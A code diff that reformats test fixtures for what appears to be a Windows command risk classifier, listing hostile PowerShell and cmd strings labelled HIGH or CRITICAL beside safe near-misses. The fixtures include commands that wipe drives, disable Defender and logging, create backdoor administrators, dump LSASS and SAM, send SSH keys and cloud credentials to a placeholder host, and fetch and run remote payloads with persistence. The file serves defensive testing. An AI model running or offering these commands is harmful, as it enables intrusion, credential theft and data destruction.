@@ -23,9 +23,16 @@ DELETES: list[tuple[str, RiskLevel]] = [
         " | Remove-Item -Force",
         HIGH,
     ),
-    ("Get-ChildItem C:\\Windows -Recurse | ForEach-Object { Remove-Item $_.FullName -Force }", CRITICAL),
+    (
+        "Get-ChildItem C:\\Windows -Recurse | ForEach-Object { Remove-Item $_.FullName -Force }",
+        CRITICAL,
+    ),
     ("gci D:\\ -Recurse | % { ri $_ -Force -Recurse }", CRITICAL),
-    ("Get-ChildItem $HOME | Where-Object LastWriteTime -lt (Get-Date).AddDays(-1) | Remove-Item -Recurse", HIGH),
+    (
+        "Get-ChildItem $HOME | Where-Object LastWriteTime -lt (Get-Date).AddDays(-1) | "
+        "Remove-Item -Recurse",
+        HIGH,
+    ),
     ("robocopy C:\\empty C:\\Users\\me /MIR", CRITICAL),
     ("robocopy C:\\empty D:\\ /MIR /R:0", CRITICAL),
     ('robocopy "C:\\tmp\\blank" "%USERPROFILE%" /PURGE', CRITICAL),
@@ -70,7 +77,11 @@ DISKS_AND_RECOVERY: list[tuple[str, RiskLevel]] = [
     ("manage-bde -off C:", HIGH),
     ("Disable-BitLocker -MountPoint C:", HIGH),
     ("manage-bde -protectors -delete C:", HIGH),
-    ("fsutil behavior set disablelastaccess 1 && fsutil file setzerodata offset=0 length=999999999 C:\\data\\db.mdf", HIGH),
+    (
+        "fsutil behavior set disablelastaccess 1 && fsutil file setzerodata offset=0 "
+        "length=999999999 C:\\data\\db.mdf",
+        HIGH,
+    ),
     ("reagentc /disable", HIGH),
 ]
 
@@ -85,19 +96,43 @@ SYSTEM_AND_SECURITY: list[tuple[str, RiskLevel]] = [
     ("Stop-Service -Name WinDefend -Force", HIGH),
     ("netsh advfirewall set allprofiles state off", HIGH),
     ("Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False", HIGH),
-    ("netsh advfirewall firewall add rule name=open dir=in action=allow protocol=TCP localport=0-65535", HIGH),
-    ("New-NetFirewallRule -DisplayName any -Direction Inbound -Action Allow -LocalPort Any -Protocol TCP", HIGH),
-    ("netsh interface portproxy add v4tov4 listenport=3389 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.0.0.5", HIGH),
-    ("Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' -Name fDenyTSConnections -Value 0", HIGH),
-    ("reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f", HIGH),
-    ("Set-ItemProperty HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System -Name ConsentPromptBehaviorAdmin -Value 0", HIGH),
+    (
+        "netsh advfirewall firewall add rule name=open dir=in action=allow protocol=TCP "
+        "localport=0-65535",
+        HIGH,
+    ),
+    (
+        "New-NetFirewallRule -DisplayName any -Direction Inbound -Action Allow -LocalPort Any "
+        "-Protocol TCP",
+        HIGH,
+    ),
+    (
+        "netsh interface portproxy add v4tov4 listenport=3389 listenaddress=0.0.0.0 "
+        "connectport=3389 connectaddress=10.0.0.5",
+        HIGH,
+    ),
+    (
+        "Set-ItemProperty -Path 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' "
+        "-Name fDenyTSConnections -Value 0",
+        HIGH,
+    ),
+    (
+        "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v "
+        "EnableLUA /t REG_DWORD /d 0 /f",
+        HIGH,
+    ),
+    (
+        "Set-ItemProperty HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System "
+        "-Name ConsentPromptBehaviorAdmin -Value 0",
+        HIGH,
+    ),
     ("wevtutil cl Security", HIGH),
     ("Clear-EventLog -LogName Application,System,Security", HIGH),
     ("auditpol /clear /y", HIGH),
     ("auditpol /set /category:* /success:disable /failure:disable", HIGH),
     ("Enable-PSRemoting -Force -SkipNetworkProfileCheck", HIGH),
     ("Set-Item WSMan:\\localhost\\Client\\TrustedHosts -Value * -Force", HIGH),
-    ("winrm set winrm/config/service/auth @{Basic=\"true\"}", HIGH),
+    ('winrm set winrm/config/service/auth @{Basic="true"}', HIGH),
     ("Enable-WindowsOptionalFeature -Online -FeatureName SMB1Protocol", HIGH),
     ("Set-SmbServerConfiguration -EnableSMB1Protocol $true -Force", HIGH),
     ("New-SmbShare -Name root -Path C:\\ -FullAccess Everyone", CRITICAL),
@@ -111,7 +146,11 @@ SYSTEM_AND_SECURITY: list[tuple[str, RiskLevel]] = [
     ("Import-Certificate -FilePath .\\ca.cer -CertStoreLocation Cert:\\LocalMachine\\Root", HIGH),
     ("Get-ChildItem Cert:\\LocalMachine\\Root | Remove-Item", HIGH),
     ("Set-DnsClientServerAddress -InterfaceAlias Ethernet -ServerAddresses 203.0.113.9", HIGH),
-    ("Add-Content C:\\Windows\\System32\\drivers\\etc\\hosts '203.0.113.9 login.microsoftonline.com'", HIGH),
+    (
+        "Add-Content C:\\Windows\\System32\\drivers\\etc\\hosts '203.0.113.9 "
+        "login.microsoftonline.com'",
+        HIGH,
+    ),
     ("route delete 0.0.0.0", HIGH),
     ("Disable-NetAdapter -Name * -Confirm:$false", HIGH),
     ("netsh interface set interface Ethernet admin=disable", HIGH),
@@ -132,7 +171,11 @@ SYSTEM_AND_SECURITY: list[tuple[str, RiskLevel]] = [
 
 ACCOUNTS_AND_SECRETS: list[tuple[str, RiskLevel]] = [
     ("net user backdoor P@ssw0rd! /add && net localgroup administrators backdoor /add", CRITICAL),
-    ("New-LocalUser -Name svc -Password (ConvertTo-SecureString 'x' -AsPlainText -Force); Add-LocalGroupMember -Group Administrators -Member svc", CRITICAL),
+    (
+        "New-LocalUser -Name svc -Password (ConvertTo-SecureString 'x' -AsPlainText -Force); "
+        "Add-LocalGroupMember -Group Administrators -Member svc",
+        CRITICAL,
+    ),
     ("Add-LocalGroupMember -Group 'Remote Desktop Users' -Member Everyone", HIGH),
     ("net user Administrator /active:yes", HIGH),
     ("net user Administrator NewPass123", HIGH),
@@ -141,64 +184,151 @@ ACCOUNTS_AND_SECRETS: list[tuple[str, RiskLevel]] = [
     ("net user alice /delete", HIGH),
     ("reg save HKLM\\SAM C:\\temp\\sam.save", CRITICAL),
     ("reg save HKLM\\SECURITY sec.hiv && reg save HKLM\\SYSTEM sys.hiv", CRITICAL),
-    ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full", CRITICAL),
+    (
+        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
+        CRITICAL,
+    ),
     ("procdump -ma lsass.exe lsass.dmp", CRITICAL),
-    ("ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\temp\\ntds\" q q", CRITICAL),
-    ("Compress-Archive -Path $env:USERPROFILE -DestinationPath C:\\tmp\\home.zip; Invoke-RestMethod -Uri http://203.0.113.9/u -Method Post -InFile C:\\tmp\\home.zip", CRITICAL),
-    ("Invoke-WebRequest -Uri https://paste.example.com/api -Method POST -Body (Get-Content $env:USERPROFILE\\.ssh\\id_rsa -Raw)", CRITICAL),
-    ("Copy-Item \"$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data\" \\\\203.0.113.9\\drop\\", CRITICAL),
+    ('ntdsutil "ac i ntds" "ifm" "create full C:\\temp\\ntds" q q', CRITICAL),
+    (
+        "Compress-Archive -Path $env:USERPROFILE -DestinationPath C:\\tmp\\home.zip; "
+        "Invoke-RestMethod -Uri http://203.0.113.9/u -Method Post -InFile C:\\tmp\\home.zip",
+        CRITICAL,
+    ),
+    (
+        "Invoke-WebRequest -Uri https://paste.example.com/api -Method POST -Body (Get-Content "
+        "$env:USERPROFILE\\.ssh\\id_rsa -Raw)",
+        CRITICAL,
+    ),
+    (
+        'Copy-Item "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Default\\Login Data" '
+        "\\\\203.0.113.9\\drop\\",
+        CRITICAL,
+    ),
     ("curl.exe -F file=@%USERPROFILE%\\.aws\\credentials https://203.0.113.9/up", CRITICAL),
-    ("Get-ChildItem Env: | Out-String | Invoke-RestMethod -Uri http://203.0.113.9/e -Method Post", CRITICAL),
+    (
+        "Get-ChildItem Env: | Out-String | Invoke-RestMethod -Uri http://203.0.113.9/e -Method "
+        "Post",
+        CRITICAL,
+    ),
     ("net use Z: \\\\10.0.0.5\\C$ /user:admin Passw0rd", HIGH),
     ("New-PSDrive -Name X -PSProvider FileSystem -Root \\\\10.0.0.5\\ADMIN$", HIGH),
     ("psexec \\\\10.0.0.5 -s cmd.exe", HIGH),
-    ("Invoke-Command -ComputerName srv01 -ScriptBlock { Remove-Item C:\\data -Recurse -Force }", CRITICAL),
-    ("wmic /node:10.0.0.5 process call create \"cmd /c net user x y /add\"", HIGH),
+    (
+        "Invoke-Command -ComputerName srv01 -ScriptBlock { Remove-Item C:\\data -Recurse -Force }",
+        CRITICAL,
+    ),
+    ('wmic /node:10.0.0.5 process call create "cmd /c net user x y /add"', HIGH),
 ]
 
 CODE_AND_PERSISTENCE: list[tuple[str, RiskLevel]] = [
     ("certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe && a.exe", CRITICAL),
-    ("bitsadmin /transfer job /download /priority high http://203.0.113.9/p.exe %TEMP%\\p.exe & start %TEMP%\\p.exe", CRITICAL),
-    ("Start-BitsTransfer -Source http://203.0.113.9/t.ps1 -Destination $env:TEMP\\t.ps1; & $env:TEMP\\t.ps1", CRITICAL),
+    (
+        "bitsadmin /transfer job /download /priority high http://203.0.113.9/p.exe %TEMP%\\p.exe "
+        "& start %TEMP%\\p.exe",
+        CRITICAL,
+    ),
+    (
+        "Start-BitsTransfer -Source http://203.0.113.9/t.ps1 -Destination $env:TEMP\\t.ps1; & "
+        "$env:TEMP\\t.ps1",
+        CRITICAL,
+    ),
     ("mshta http://203.0.113.9/run.hta", CRITICAL),
     ("regsvr32 /s /n /u /i:http://203.0.113.9/file.sct scrobj.dll", CRITICAL),
-    ("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://203.0.113.9/x\")", CRITICAL),
+    (
+        'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication '
+        '";document.write();GetObject("script:http://203.0.113.9/x")',
+        CRITICAL,
+    ),
     ("msiexec /q /i http://203.0.113.9/setup.msi", CRITICAL),
-    ("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')\"", CRITICAL),
+    (
+        'powershell -nop -w hidden -c "IEX (New-Object '
+        "Net.WebClient).DownloadString('http://203.0.113.9/a')\"",
+        CRITICAL,
+    ),
     ("powershell.exe -ExecutionPolicy Bypass -File \\\\203.0.113.9\\share\\run.ps1", CRITICAL),
-    ("& ([scriptblock]::Create((iwr http://203.0.113.9/s.ps1 -UseBasicParsing).Content))", CRITICAL),
+    (
+        "& ([scriptblock]::Create((iwr http://203.0.113.9/s.ps1 -UseBasicParsing).Content))",
+        CRITICAL,
+    ),
     ("Invoke-Expression (Invoke-RestMethod https://get.example.net/install.ps1)", CRITICAL),
     ("$c = (iwr http://203.0.113.9/c).Content; iex $c", CRITICAL),
     ("Set-ExecutionPolicy Unrestricted -Scope LocalMachine -Force", HIGH),
     ("Set-ExecutionPolicy Bypass -Force", HIGH),
-    ("Install-Module EvilTools -Repository http://203.0.113.9/nuget -Force -SkipPublisherCheck", HIGH),
+    (
+        "Install-Module EvilTools -Repository http://203.0.113.9/nuget -Force -SkipPublisherCheck",
+        HIGH,
+    ),
     ("Add-AppxPackage -Path .\\app.msix -AllowUnsigned", HIGH),
     ("choco install tool -s http://203.0.113.9/feed -y", HIGH),
     ("winget install --source http://203.0.113.9/winget Tool", HIGH),
-    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d \"powershell -w hidden -f C:\\Users\\Public\\u.ps1\" /f", HIGH),
-    ("New-ItemProperty -Path HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run -Name svc -Value C:\\ProgramData\\svc.exe", HIGH),
-    ("reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\" /v Userinit /d \"C:\\Windows\\system32\\userinit.exe,C:\\p.exe\" /f", CRITICAL),
-    ("reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\" /v Debugger /d cmd.exe /f", CRITICAL),
-    ("schtasks /create /tn upd /tr \"powershell -w hidden -c iex(iwr http://203.0.113.9/a)\" /sc onlogon /ru SYSTEM", CRITICAL),
+    (
+        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d "
+        '"powershell -w hidden -f C:\\Users\\Public\\u.ps1" /f',
+        HIGH,
+    ),
+    (
+        "New-ItemProperty -Path HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run -Name "
+        "svc -Value C:\\ProgramData\\svc.exe",
+        HIGH,
+    ),
+    (
+        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" /v Userinit '
+        '/d "C:\\Windows\\system32\\userinit.exe,C:\\p.exe" /f',
+        CRITICAL,
+    ),
+    (
+        'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution '
+        'Options\\sethc.exe" /v Debugger /d cmd.exe /f',
+        CRITICAL,
+    ),
+    (
+        'schtasks /create /tn upd /tr "powershell -w hidden -c iex(iwr http://203.0.113.9/a)" '
+        "/sc onlogon /ru SYSTEM",
+        CRITICAL,
+    ),
     ("schtasks /create /sc minute /mo 5 /tn sync /tr C:\\Users\\Public\\s.exe", HIGH),
-    ("Register-ScheduledTask -TaskName t -Action (New-ScheduledTaskAction -Execute cmd.exe -Argument '/c C:\\p.bat') -Trigger (New-ScheduledTaskTrigger -AtStartup) -User SYSTEM", HIGH),
-    ("sc create updsvc binPath= \"C:\\ProgramData\\u.exe\" start= auto", HIGH),
+    (
+        "Register-ScheduledTask -TaskName t -Action (New-ScheduledTaskAction -Execute cmd.exe "
+        "-Argument '/c C:\\p.bat') -Trigger (New-ScheduledTaskTrigger -AtStartup) -User SYSTEM",
+        HIGH,
+    ),
+    ('sc create updsvc binPath= "C:\\ProgramData\\u.exe" start= auto', HIGH),
     ("New-Service -Name upd -BinaryPathName C:\\Users\\Public\\u.exe -StartupType Automatic", HIGH),
-    ("Copy-Item .\\x.exe \"$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.exe\"", HIGH),
+    (
+        'Copy-Item .\\x.exe "$env:APPDATA\\Microsoft\\Windows\\Start '
+        'Menu\\Programs\\Startup\\x.exe"',
+        HIGH,
+    ),
     ("Add-Content -Path $PROFILE -Value 'iex (iwr http://203.0.113.9/p)'", CRITICAL),
-    ("wmic /namespace:\\\\root\\subscription path __EventFilter create Name=f,EventNamespace=root\\cimv2,QueryLanguage=WQL,Query=\"SELECT * FROM __InstanceModificationEvent\"", HIGH),
+    (
+        "wmic /namespace:\\\\root\\subscription path __EventFilter create "
+        'Name=f,EventNamespace=root\\cimv2,QueryLanguage=WQL,Query="SELECT * FROM '
+        '__InstanceModificationEvent"',
+        HIGH,
+    ),
     ("Set-Content C:\\Windows\\System32\\drivers\\etc\\hosts ''", HIGH),
     ("'' | Out-File C:\\Windows\\System32\\config\\SAM", CRITICAL),
-    ("Set-Content -Path $env:USERPROFILE\\.ssh\\authorized_keys -Value 'ssh-ed25519 AAAA stranger'", HIGH),
+    (
+        "Set-Content -Path $env:USERPROFILE\\.ssh\\authorized_keys -Value 'ssh-ed25519 AAAA "
+        "stranger'",
+        HIGH,
+    ),
 ]
 
-DANGEROUS = DELETES + DISKS_AND_RECOVERY + SYSTEM_AND_SECURITY + ACCOUNTS_AND_SECRETS + CODE_AND_PERSISTENCE
+DANGEROUS = (
+    DELETES + DISKS_AND_RECOVERY + SYSTEM_AND_SECURITY + ACCOUNTS_AND_SECRETS + CODE_AND_PERSISTENCE
+)
 
 NEAR_MISSES: list[tuple[str, RiskLevel]] = [
     ("Get-ChildItem C:\\Users\\me -Recurse | Measure-Object", SAFE),
     ("gci $HOME -r -Filter *.log | Select-Object FullName, Length", SAFE),
     ("Get-ChildItem .\\build -Recurse | Remove-Item -Force -Recurse", MODERATE),
-    ("Get-ChildItem $env:TEMP -Recurse | Remove-Item -Force -Recurse -ErrorAction SilentlyContinue", MODERATE),
+    (
+        "Get-ChildItem $env:TEMP -Recurse | Remove-Item -Force -Recurse -ErrorAction "
+        "SilentlyContinue",
+        MODERATE,
+    ),
     ("Get-ChildItem . -Filter *.tmp | Remove-Item", MODERATE),
     ("Get-ChildItem C:\\ -Recurse | Remove-Item -WhatIf", MODERATE),
     ("Remove-Item .\\dist -Recurse -Force", MODERATE),
